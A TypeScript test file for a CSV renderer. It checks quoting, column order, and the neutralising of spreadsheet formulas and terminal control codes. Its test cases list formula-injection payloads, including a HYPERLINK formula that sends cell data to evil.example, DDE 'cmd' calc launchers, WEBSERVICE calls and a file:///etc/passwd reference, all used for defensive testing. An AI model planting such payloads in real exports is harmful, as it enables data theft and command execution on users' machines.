import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createCsvRenderer } from '../../src/render/csv.ts';
import { withoutControls } from '../../src/render/safe-text.ts';
import { readCsv } from './csv-reader.ts';
import { hostileText } from './hostile.ts';
import { failed, lost, pipe, record, rendered, terminal } from './sample.ts';

const header =
  'provider,operation,id,state,outcome,providerState,channel,to,updatedAt,reason.code,error.code,exit.code\n';

test('a header and a row each', () => {
  expect(rendered(createCsvRenderer(pipe), [record(), failed, lost])).toBe(
    `${header}\
sent,get,8ba7b830-9dad-11d1-80b4-00c04fd430c8,delivered,success,DELIVERED,sms,+14155550100,2026-03-11T19:51:10.000Z,,,0
sendblue,get,dad45f2a-0c4f-4a3f-8b0f-3d8b2f3c9a10,failed,failure,ERROR,sms,+19998887777,2026-03-11T19:51:10.000Z,4001,,20
sent,get,nobody-knows-this,,,,,,,,not-found,24
`,
  );
});

test('the header alone when there was nothing', () => {
  expect(rendered(createCsvRenderer(pipe), [])).toBe(header);
});

test('fields become the columns, in their order', () => {
  const view = { ...pipe, fields: ['exit.code', 'warnings', 'reason.message'] };
  expect(rendered(createCsvRenderer(view), [record({ warnings: ['a "b", c'] }), failed])).toBe(
    'exit.code,warnings,reason.message\n0,"[""a \\""b\\"", c""]",\n20,[],the recipient opted out\n',
  );
});

test('a lone empty cell is a row and not a blank line', () => {
  const text = rendered(createCsvRenderer({ ...pipe, fields: ['reason.code'] }), [record(), failed]);
  expect(text).toBe('reason.code\n""\n4001\n');
});

const cellOf = (content: string) => {
  const view = { ...pipe, fields: ['details.content'] };
  return readCsv(rendered(createCsvRenderer(view), [record({ details: { content } })]))[1]?.[0];
};

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '+WEBSERVICE(A1)',
  '-A1&B1',
  "+'file:///etc/passwd'#$A.A1",
  '＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
])('no spreadsheet takes %j for a formula', (content) => {
  expect(cellOf(content)).toBe(`'${content}`);
});

test.each([
  '+15550100142',
  '+1 (555) 010-0142',
  '+1.555.010.0142',
  '-12.5',
  '-',
  '+',
  '-k_3-Q9~x',
  'a=b',
  '1+1',
  ' plain',
  '',
])('%j is no formula, and stays what it is', (content) => {
  expect(cellOf(content)).toBe(content);
});

/** Without the apostrophe of what would be a formula. */
function asText(cell: string): unknown {
  return /^[=@＝＠+\t\r\n-]/.test(cell) ? expect.toSatisfy((text) => text === cell || text === `'${cell}`) : cell;
}

test('values come back exactly, but for what a terminal or a spreadsheet obeys', () => {
  fc.assert(
    fc.property(hostileText, hostileText, (id, content) => {
      const view = { ...pipe, fields: ['id', 'details.content', 'channel'] };
      const text = rendered(createCsvRenderer(view), [record({ id, details: { content } }), record()]);
      expect(readCsv(text)).toEqual([
        ['id', 'details.content', 'channel'],
        [asText(withoutControls(id)), asText(withoutControls(content)), 'sms'],
        ['8ba7b830-9dad-11d1-80b4-00c04fd430c8', '', 'sms'],
      ]);
    }),
  );
});

test.each([
  ['a\u0000b', 'a␀b'],
  ['\u001b[2J', '␛[2J'],
  ['\u009b2J', '\\x9b2J'],
  ['\u202egnp', '\\u202egnp'],
  ['half \ud83d', 'half \\ud83d'],
  ['é漢😀👨‍👩‍👧', 'é漢😀👨‍👩‍👧'],
])('%j in a pipe is %s', (id, cell) => {
  expect(rendered(createCsvRenderer({ ...pipe, fields: ['id'] }), [record({ id })])).toBe(`id\n${cell}\n`);
});

test('line ends and tabs stay within their quotes', () => {
  const text = rendered(createCsvRenderer({ ...pipe, fields: ['id'] }), [record({ id: 'a\r\n\tb' })]);
  expect(text).toBe('id\n"a\r\n\tb"\n');
});

test('a terminal gets them visible', () => {
  const text = rendered(createCsvRenderer(terminal(80, { fields: ['id'] })), [record({ id: 'a\u001b[2J\nb' })]);
  expect(text).toBe('id\na␛[2J⏎b\n');
});
